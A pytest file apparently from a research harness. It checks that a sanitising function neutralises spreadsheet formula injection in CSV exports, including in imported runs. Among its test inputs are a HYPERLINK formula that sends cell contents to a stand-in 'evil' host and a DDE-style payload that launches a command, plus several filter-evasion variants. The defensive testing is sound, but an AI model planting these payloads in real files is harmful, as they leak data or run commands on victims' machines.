"""No text of a table is a formula to the program that opens it, and every number is still one."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from harness.bundles.exporting import export
from harness.bundles.importing import checked_bundle, import_bundle
from harness.collate import collate
from harness.records.store import Store
from harness.utils.spreadsheets import inert
from tests.harness.synthetic import make_record, renamed, write

ROOT = Path(__file__).parents[3]
FORMULA = '=HYPERLINK("http://evil/?"&A1,"press")'
WIDE = ["\uff1d1", "\uff0b1", "\uff0d1", "\uff20A"]
FORMULAS = [
    "=1+1",
    "+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\x00=1",
    "=1+1\n=2",
    "\tx",
    "-",
    "=",
    FORMULA,
    *WIDE,
]
HARMLESS = ["nbody", "a=b", "", "1", "0.5", "[{}]", "'=1", "x\n=1", "gnn-ga", "5-1", "Ω"]


def cells(frame: pl.DataFrame) -> list[str]:
    return inert(frame).to_series().to_list()


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_a_text(text: str) -> None:
    assert cells(pl.DataFrame({"name": [text]})) == ["'" + text]


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert cells(pl.DataFrame({"name": [text]})) == [text]


def test_numbers_stay_numbers_and_nothing_stays_nothing() -> None:
    frame = pl.DataFrame(
        {"a": [-1.5, None], "b": [-7, 2], "c": [True, None], "d": pl.Series([None, None], dtype=pl.String)}
    )
    assert inert(frame).equals(frame) and inert(frame).schema == frame.schema


def test_names_of_columns_are_texts_too() -> None:
    assert inert(pl.DataFrame({FORMULA: [-1], "a": ["b"]})).columns == ["'" + FORMULA, "a"]


@given(st.text())
def test_no_cell_of_a_file_begins_a_formula(text: str) -> None:
    body = inert(pl.DataFrame({"n": [-1.0], "name": [text]})).write_csv()
    _, row = csv.reader(io.StringIO(body, newline=""))
    assert row[0] == "-1.0" and row[1].removeprefix("'") == text.removeprefix("'")
    assert not re.match(r"[\s\x00-\x20]*[=+@-]", row[1])


def test_the_tables_of_imported_runs_hold_no_formula(tmp_path: Path) -> None:
    """Names, groups, settings, labels, suites and errors are whatever somebody wrote."""
    evil = dict.fromkeys(("task", "method", "base_model", "sampler", "variant", "size_name"), FORMULA)
    other = Store(tmp_path / "theirs" / "store")
    plain = make_record(method="gnn-ga", suite=FORMULA, notes=(FORMULA,), value=-0.25)
    settings = replace(plain, suite="@a", spec=replace(plain.spec, base={FORMULA: FORMULA}))
    write(other.root, renamed(plain, **evil), renamed(settings, **evil), make_record(method="egnn", error=FORMULA))
    export(other, tmp_path / "lab.zip")
    store = Store(tmp_path / "mine" / "store")
    import_bundle(store, checked_bundle(tmp_path / "lab.zip"))
    tables = collate(store)
    for name, frame in tables.frames().items():
        with (tmp_path / "mine" / "tables" / f"{name}.csv").open(encoding="utf-8", newline="") as file:
            head, *rows = csv.reader(file)
        assert head == frame.columns and len(rows) == frame.height
        for row in rows:
            for title, cell in zip(head, row, strict=True):
                number = frame.schema[title].is_numeric()
                assert number or not re.match(r"[\s\x00-\x20]*[=+@-]", cell), (name, title)
    value = pl.read_csv(tmp_path / "mine" / "tables" / "runs.csv", infer_schema_length=None)["value"]
    assert value.dtype == pl.Float64 and -0.25 in value.to_list()


def test_every_csv_file_is_written_through_it() -> None:
    for path in (ROOT / "harness").rglob("*.py"):
        body = path.read_text(encoding="utf-8")
        for line in re.findall(r".*(?:write_csv|sink_csv|to_csv|csv\.writer).*", body):
            assert "inert(" in line or "_plain(" in line, f"{path.name}: {line.strip()}"
